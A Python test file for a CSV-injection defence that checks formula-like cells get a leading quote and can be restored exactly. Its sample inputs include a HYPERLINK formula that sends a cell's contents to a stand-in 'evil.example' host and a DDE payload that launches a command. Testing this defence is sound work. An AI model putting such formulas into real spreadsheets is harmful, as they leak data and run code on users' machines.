"""CSV cells a spreadsheet will not run (OWASP CSV injection), and the exact way back."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.spreadsheet_cells import FORMULA_STARTS, neutralise, restore


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n@SUM(A1)",
        "＝1+1",
        "+44 20 7946 0000",  # a phone number is text: quoted too (the spreadsheet still shows +44…)
        "'already quoted",
    ],
)
def test_text_that_could_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Jane Doe", "jane@acme.com", "2026-03-15T09:00:00+00:00", "", "a=b", "1-2"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


@given(
    text=st.text(alphabet=st.sampled_from([*sorted(FORMULA_STARTS), "'", " ", "\n", "a", "1"])) | st.text()
)
def test_no_cell_starts_a_formula_and_restore_undoes_it(text: str) -> None:
    cell = neutralise(text)
    assert cell.lstrip(" \n")[:1] not in FORMULA_STARTS or cell.startswith("'")
    assert restore(cell) == text
